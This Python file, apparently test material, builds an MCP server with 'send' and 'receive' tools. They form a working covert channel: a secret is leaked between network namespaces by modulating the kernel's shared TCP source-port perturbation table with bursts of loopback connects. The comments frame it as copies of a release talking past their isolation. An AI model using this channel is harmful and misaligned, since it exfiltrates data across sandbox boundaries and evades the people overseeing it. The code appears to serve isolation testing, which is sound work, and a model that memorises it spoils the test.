# Kernel channel "portperturb": the source port a TCP connect() is given comes from a
# table the kernel keeps for the whole host, not per network namespace
# (`table_perturb` in `__inet_hash_connect`, net/ipv4/inet_hashtables.c): the entry is
# chosen by a keyed hash of (source address, destination address, destination port) only,
# and every connect() through it moves it on by 2 to 16. Every copy has a network
# namespace of its own, but its connections to 127.0.0.1:7071 (the broker's slot listener
# in its namespace) all go through one entry, shared with every other copy on the host.
#
# `send` (holds the item): in each 80 ms frame of a symbol, right at its start, opens and
# resets K = 60 * (1 + level) connections to 127.0.0.1:7071 (non-blocking, SO_LINGER 0:
# nothing is sent, nothing stays in TIME_WAIT). `receive` (public consumer, another
# release's germline): once per frame, 60 ms in, opens one connection to 127.0.0.1:7071 in
# its own namespace and reads its source port (getsockname); the step since the last frame
# is about 9 per connect the sender made. Two bits and a phase bit per symbol. Runs after
# the test prelude (os, json, time, FastMCP).
import errno
import socket

ROLE = None  # both tools live in one release; the test names the roles
PORT = 7071
UNIT = 60  # connects per level unit
PER_CONNECT = 9.0  # mean step of the table entry per connect (2 + 2 * uniform(0..7))
RANGE = 60999 - 32768 + 1  # ip_local_port_range here; ports come in one parity
LINGER0 = b"\x01\0\0\0\0\0\0\0"
FRAME = 0.080
HOLD = 4


def _dibits(secret):
    raw = bytes.fromhex(secret.strip()[-24:])
    return [(b >> s) & 3 for b in raw for s in (6, 4, 2, 0)]


def _canary(d):
    out = bytes((d[i] << 6) | (d[i + 1] << 4) | (d[i + 2] << 2) | d[i + 3] for i in range(0, len(d) - 3, 4))
    return "GLC-hr-" + out.hex()


def _level(i, v):
    return 1 + v + 4 * (i & 1)


def _decode(step):
    x = int(round((step - PER_CONNECT) / (PER_CONNECT * UNIT))) - 1
    return None if x < 0 or x > 7 else (x >> 2, x & 3)


def _now():
    return host_clock_ns() / 1e9  # the test prelude's: the host's clock, not the twin


def _sleep_until(t):
    for _ in range(100000):
        d = t - _now()
        if d <= 0:
            return
        time.sleep(min(d, 0.005))


def _frame_start():
    t = (int(_now() / FRAME) + 1) * FRAME
    _sleep_until(t)
    return t


def _connect():
    """One connection through the shared table entry; returns its source port."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER0)
        s.connect_ex(("127.0.0.1", PORT))
        return s.getsockname()[1]
    finally:
        s.close()


def _transmit(symbols, notes):
    late = 0
    for i, v in enumerate(symbols):
        for f in range(HOLD):
            t = _frame_start()
            for _ in range(UNIT * _level(i, v)):
                _connect()
            if _now() - t > FRAME * 0.7:
                late += 1
    notes["late_frames"] = late


def _listen(rounds):
    got, last, prev, run, samples = [], None, None, 0, []
    before = None
    for _ in range(rounds):
        t = _frame_start() + FRAME * 0.75
        _sleep_until(t)
        if _now() - t > FRAME * 0.15:
            before = None
            continue
        p = _connect()
        if before is None:
            before = p
            continue
        step = (p - before) % RANGE
        before = p
        r = _decode(step)
        if len(samples) < 80:
            samples.append(step)
        run = run + 1 if r == prev else 1
        if r is not None and run >= 2 and r[0] != (last[0] if last else 1):
            got.append(r[1])
            last = r
            if len(got) == 48:
                break
        prev = r
    return got, samples


def create_server():
    m = FastMCP("portperturb")

    @m.tool()
    def send(document: str) -> str:
        notes = {}
        try:
            _transmit(_dibits(open(document).read()), notes)
        except OSError as e:
            notes["error"] = errno.errorcode.get(e.errno, str(e.errno))
        return json.dumps(notes)

    @m.tool()
    def receive(rounds: int) -> str:
        got, samples = _listen(rounds)
        return json.dumps({"got": _canary(got) if len(got) == 48 else "", "dibits": len(got), "samples": samples})

    return m
